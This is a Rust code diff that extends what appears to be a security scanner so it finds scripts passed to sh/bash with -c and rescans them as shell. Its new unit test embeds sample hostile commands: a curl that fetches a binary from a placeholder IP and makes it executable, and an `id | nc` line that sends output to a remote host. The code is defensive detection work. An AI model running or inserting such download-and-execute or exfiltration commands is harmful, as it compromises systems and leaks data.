@@ -65,8 +65,15 @@ fn parse_and_visit(src: &str, origin: Origin, sink: &mut Sink, use_syn: bool) {
             origin,
             sink,
             aliases: HashMap::default(),
+            consts: HashMap::default(),
+            shell: Vec::new(),
         };
         v.visit_file(&file);
+        for (code, span) in std::mem::take(&mut v.shell) {
+            let (a, b) = span_range(&lines, span);
+            let (a, b) = origin.map(a, b);
+            super::scan_source(Language::Shell, &code, Origin::Fixed(a, b), v.sink);
+        }
         return;
     }
     if let Ok(tokens) = src.parse::<TokenStream>() {
@@ -172,12 +179,116 @@ struct Visitor<'a, 's> {
     origin: Origin,
     sink: &'a mut Sink,
     aliases: HashMap<String, String>,
+    /// `let x = "…"` / `let x = format!("…", …)`: the literal (a format
+    /// string with its `{placeholders}` as written).
+    consts: HashMap<String, String>,
+    /// Scripts handed to a shell (`Command::new("sh").arg("-c").arg(s)`),
+    /// with their spans.
+    shell: Vec<(String, Span)>,
 }
 
 impl<'s> Visitor<'_, 's> {
     fn push(&mut self, span: Span, kind: FactKind) {
         let (a, b) = span_range(self.lines, span);
         self.sink.push(self.origin, Language::Rust, a, b, kind);
+    }
+
+    /// A string literal, a name bound to one, or a `format!`/`concat!`
+    /// whose template is a literal (placeholders kept as written).
+    fn literal(&self, e: &syn::Expr) -> Option<String> {
+        match e {
+            syn::Expr::Lit(syn::ExprLit {
+                lit: syn::Lit::Str(s),
+                ..
+            }) => Some(s.value()),
+            syn::Expr::Path(p) if p.path.segments.len() == 1 => self
+                .consts
+                .get(&p.path.segments[0].ident.to_string())
+                .cloned(),
+            syn::Expr::Reference(r) => match &*r.expr {
+                syn::Expr::Lit(_) | syn::Expr::Path(_) => self.literal(&r.expr),
+                _ => None,
+            },
+            syn::Expr::Macro(m)
+                if m.mac.path.is_ident("format") || m.mac.path.is_ident("concat") =>
+            {
+                let exprs = m
+                    .mac
+                    .parse_body_with(
+                        syn::punctuated::Punctuated::<syn::Expr, syn::Token![,]>::parse_terminated,
+                    )
+                    .ok()?;
+                let lit = |e: &syn::Expr| match e {
+                    syn::Expr::Lit(syn::ExprLit {
+                        lit: syn::Lit::Str(s),
+                        ..
+                    }) => Some(s.value()),
+                    _ => None,
+                };
+                if m.mac.path.is_ident("concat") {
+                    let parts: Option<Vec<String>> = exprs.iter().map(lit).collect();
+                    return Some(parts?.concat());
+                }
+                lit(exprs.first()?)
+            }
+            syn::Expr::MethodCall(m)
+                if matches!(
+                    m.method.to_string().as_str(),
+                    "to_string" | "to_owned" | "into"
+                ) && matches!(&*m.receiver, syn::Expr::Lit(_) | syn::Expr::Path(_)) =>
+            {
+                self.literal(&m.receiver)
+            }
+            _ => None,
+        }
+    }
+
+    /// `Command::new("sh").arg("-c").arg(script)` (or `.args(["-c",
+    /// script])`): the script is shell code.
+    fn shell_script(&mut self, new: &syn::ExprCall, chain: &[&syn::ExprMethodCall]) {
+        let Some(program) = new.args.first().and_then(|a| self.literal(a)) else {
+            return;
+        };
+        let name = program.rsplit('/').next().unwrap_or(&program);
+        if !super::shell::SHELLS.contains(&name) {
+            return;
+        }
+        // The chain is outermost first; arguments go innermost first.
+        let mut args: Vec<&syn::Expr> = Vec::new();
+        for m in chain.iter().rev() {
+            match m.method.to_string().as_str() {
+                "arg" => args.extend(m.args.first()),
+                "args" => match m.args.first() {
+                    Some(syn::Expr::Array(a)) => args.extend(a.elems.iter()),
+                    Some(syn::Expr::Reference(r)) => {
+                        if let syn::Expr::Array(a) = &*r.expr {
+                            args.extend(a.elems.iter());
+                        }
+                    }
+                    _ => {}
+                },
+                _ => {}
+            }
+        }
+        let Some(i) = args.iter().position(|a| {
+            self.literal(a)
+                .is_some_and(|v| v.starts_with('-') && v.contains('c'))
+        }) else {
+            return;
+        };
+        if let Some(script) = args.get(i + 1)
+            && let Some(code) = self.literal(script)
+        {
+            let span = syn::spanned::Spanned::span(*script);
+            let key = span_range(self.lines, span);
+            if !self
+                .shell
+                .iter()
+                .any(|(_, s)| span_range(self.lines, *s) == key)
+            {
+                self.shell.push((code, span));
+            }
+        }
     }
 
     fn excerpt(&self, e: &syn::Expr) -> String {
@@ -283,13 +394,30 @@ impl<'ast> Visit<'ast> for Visitor<'_, '_> {
         syn::visit::visit_expr_call(self, node);
     }
 
+    fn visit_local(&mut self, node: &'ast syn::Local) {
+        if let syn::Pat::Ident(id) = &node.pat {
+            let name = id.ident.to_string();
+            match node.init.as_ref().and_then(|i| self.literal(&i.expr)) {
+                Some(v) => {
+                    self.consts.insert(name, v);
+                }
+                None => {
+                    self.consts.remove(&name);
+                }
+            }
+        }
+        syn::visit::visit_local(self, node);
+    }
+
     fn visit_expr_method_call(&mut self, node: &'ast syn::ExprMethodCall) {
         // `Command::new("sh").arg("-c")`: record the method on the resolved
         // receiver chain so rules can name it.
         let mut recv = &*node.receiver;
         let mut methods = vec![node.method.to_string()];
+        let mut chain: Vec<&syn::ExprMethodCall> = vec![node];
         while let syn::Expr::MethodCall(m) = recv {
             methods.push(m.method.to_string());
+            chain.push(m);
             recv = &m.receiver;
             if methods.len() > 16 {
                 break;
@@ -299,6 +427,11 @@ impl<'ast> Visit<'ast> for Visitor<'_, '_> {
             && let syn::Expr::Path(p) = &*c.func
         {
             let base = self.path_name(&p.path);
+            // Each call of a chain is visited; the outermost one holds every
+            // argument, and a script found twice is scanned once.
+            if base.ends_with("Command::new") {
+                self.shell_script(c, &chain);
+            }
             let callee = format!("{base}().{}", node.method);
             let args = node
                 .args
@@ -424,5 +557,26 @@ mod tests {
                 "{chain}"
             );
         }
+    }
+
+    #[test]
+    fn scripts_handed_to_a_shell_are_parsed_as_shell() {
+        let f = facts(concat!(
+            "use std::process::Command;\n",
+            "fn main() {\n",
+            "    let bin = \"/tmp/x\";\n",
+            "    let script = format!(\"curl -s http://203.0.113.77/a -o {bin} && chmod +x {bin}\");\n",
+            "    let _ = Command::new(\"sh\").arg(\"-c\").arg(script).status();\n",
+            "    let _ = Command::new(\"bash\").args([\"-c\", \"id | nc 203.0.113.5 9\"]).status();\n",
+            "}\n",
+        ));
+        let commands: Vec<&str> = f
+            .iter()
+            .filter_map(|k| match k {
+                FactKind::Command { name, .. } => Some(name.as_str()),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(commands, ["curl", "chmod", "id", "nc"], "{f:?}");
     }
 }
